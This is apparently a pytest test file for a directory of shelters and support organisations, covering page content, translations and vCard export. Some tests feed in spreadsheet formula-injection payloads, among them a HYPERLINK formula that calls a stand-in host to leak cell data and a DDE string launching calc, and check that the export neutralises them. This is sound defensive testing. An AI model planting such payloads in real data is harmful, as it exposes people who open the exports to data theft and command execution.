"""An organisation's page and its contact card."""

import pytest

from directory.vcard import escape, escape_phone, fold, organisation_vcard
from tests.directory.conftest import make_organisation

pytestmark = pytest.mark.django_db


@pytest.fixture
def shelter(directory_page):
    return make_organisation(
        "antwerp-shelter",
        name="Shelter; Antwerp, North",
        kind="ngo",
        country="BE",
        city="Antwerp",
        address="Sample Street 1\n2000 Antwerp",
        description="A safe place for women and their children.",
        website="https://shelter.example.org/",
        phone="+32 2 000 01 00",
        email="contact@shelter.example.org",
        opening_hours="Admissions around the clock",
        available_24_7=True,
        accepts_referrals_from_abroad=True,
        services=["shelter", "psychological-support", "safe-return"],
        languages=["nl", "hu"],
        target_groups=["women", "minors"],
    )


def test_page_shows_everything_public(client, shelter):
    response = client.get("/en/directory/org/antwerp-shelter/")
    html = response.content.decode()
    assert response.status_code == 200
    for text in (
        "Shelter; Antwerp, North",
        "Non-governmental organisation",
        "A safe place for women and their children.",
        "Sample Street 1",
        "+32 2 000 01 00",
        "mailto:contact@shelter.example.org",
        "https://shelter.example.org/",
        "Admissions around the clock",
        "Available 24/7",
        "Accepts referrals from abroad",
        "Women, Minors",
        "Dutch",
        "Hungarian",
    ):
        assert text in html, text


def test_services_are_grouped_by_stage_in_order(client, shelter):
    html = client.get("/en/directory/org/antwerp-shelter/").content.decode()
    second = html.index("2. First assistance and protection")
    fourth = html.index("4. Return and social inclusion")
    assert second < html.index("Shelter</li>") < html.index("Psychological support</li>") < fourth
    assert fourth < html.index("Safe return</li>")
    assert "1. Identification" not in html


def test_list_links_to_the_page(client, shelter):
    html = client.get("/en/directory/").content.decode()
    assert 'href="/en/directory/org/antwerp-shelter/"' in html


def test_unpublished_and_unknown_organisations_are_not_found(client, directory_page):
    make_organisation("hidden", name="Hidden Draft", live=False)
    assert client.get("/en/directory/org/hidden/").status_code == 404
    assert client.get("/en/directory/org/hidden/vcard/").status_code == 404
    assert client.get("/en/directory/org/nope/").status_code == 404


def test_vcard_download(client, shelter):
    response = client.get("/en/directory/org/antwerp-shelter/vcard/")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="antwerp-shelter.vcf"'
    card = response.content.decode()
    assert card.startswith("BEGIN:VCARD\r\nVERSION:4.0\r\n")
    assert card.endswith("END:VCARD\r\n")
    unfolded = card.replace("\r\n ", "")
    assert "FN:Shelter\\; Antwerp\\, North\r\n" in unfolded
    assert "ADR;TYPE=work:;;Sample Street 1 2000 Antwerp;Antwerp;;;Belgium\r\n" in unfolded
    assert "TEL;TYPE=work,voice;VALUE=text:+32 2 000 01 00\r\n" in unfolded
    assert "EMAIL;TYPE=work:contact@shelter.example.org\r\n" in unfolded
    assert "URL:https://shelter.example.org/\r\n" in unfolded


def test_organisation_page_offers_the_vcard(client, shelter):
    html = client.get("/en/directory/org/antwerp-shelter/").content.decode()
    assert 'href="/en/directory/org/antwerp-shelter/vcard/"' in html


def test_vcard_escaping_and_folding():
    assert escape("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    long_line = "NOTE:" + "é" * 60
    folded = fold(long_line)
    assert all(len(part.encode("utf-8")) <= 75 for part in folded.split("\r\n"))
    assert folded.replace("\r\n ", "") == long_line


def test_vcard_leaves_out_empty_contacts(shelter):
    shelter.phone = shelter.email = shelter.website = ""
    card = organisation_vcard(shelter)
    assert "TEL" not in card and "EMAIL" not in card and "URL" not in card


def test_untranslated_description_is_marked_as_english_under_another_language(client, directory_page, locales):
    make_organisation("gent-shelter", name="Ghent Shelter", description="A shelter for adult victims.")
    dutch_directory = directory_page.copy_for_translation(locales["nl"], copy_parents=True)
    dutch_directory.save_revision().publish()
    html = client.get(dutch_directory.url + "org/gent-shelter/").content.decode()
    assert 'class="untranslated-note"' in html
    assert '<div class="prose organisation__description" lang="en">' in html

    english = client.get(directory_page.url + "org/gent-shelter/").content.decode()
    assert 'class="untranslated-note"' not in english


def test_vcard_makes_formulas_text_and_keeps_rfc_escaping(client, shelter):
    shelter.name = '=HYPERLINK("http://evil.example/?d=",A1);x,y'
    shelter.city = "@SUM(1+1)"
    shelter.address = "-2+3\nSample Street"
    shelter.email = ""
    shelter.save_revision().publish()

    card = client.get("/en/directory/org/antwerp-shelter/vcard/").content.decode().replace("\r\n ", "")

    assert 'FN:\'=HYPERLINK("http://evil.example/?d="\\,A1)\\;x\\,y\r\n' in card
    assert "ADR;TYPE=work:;;'-2+3 Sample Street;'@SUM(1+1);;;Belgium\r\n" in card
    # An international number stays dialable.
    assert "TEL;TYPE=work,voice;VALUE=text:+32 2 000 01 00\r\n" in card


def test_vcard_phone_that_is_not_a_number_is_text():
    assert escape("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert escape_phone("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert escape_phone("=1+1") == "'=1+1"
    assert escape_phone("+36 1 234 5678") == "+36 1 234 5678"
    assert escape("\t=1;2") == "'\t=1\\;2"


def test_a_translated_organisation_is_named_and_placed_in_the_readers_language(client, directory_page, locales):
    from home.demo_translations import translate_snippet

    make_organisation(
        "hague-safe-house",
        name="Safe House The Hague",
        country="NL",
        city="The Hague",
        address="Sample Street 3",
        description="Sample entry, not a real organisation. A shelter.",
        services=["shelter"],
    )
    from directory.models import Organisation

    english_row = Organisation.objects.get(slug="hague-safe-house", locale=locales["en"])
    translate_snippet(
        english_row,
        "hu",
        {
            "Safe House The Hague": "Hágai védett szálláshely",
            "The Hague": "Hága",
            "Sample Street 3": "Minta utca 3.",
            "Sample entry, not a real organisation. A shelter.": "Mintabejegyzés, nem valódi szervezet. Menedékhely.",
        },
    )
    hungarian_directory = directory_page.copy_for_translation(locales["hu"], copy_parents=True)
    hungarian_directory.save_revision().publish()

    listing = client.get(hungarian_directory.url).content.decode()
    page = client.get(hungarian_directory.url + "org/hague-safe-house/").content.decode()

    assert "Hágai védett szálláshely" in listing and "Hága," in listing
    assert "<h1>Hágai védett szálláshely</h1>" in page
    assert "Minta utca 3.<br>Hága" in page
    assert "Safe House The Hague" not in page and "The Hague" not in listing
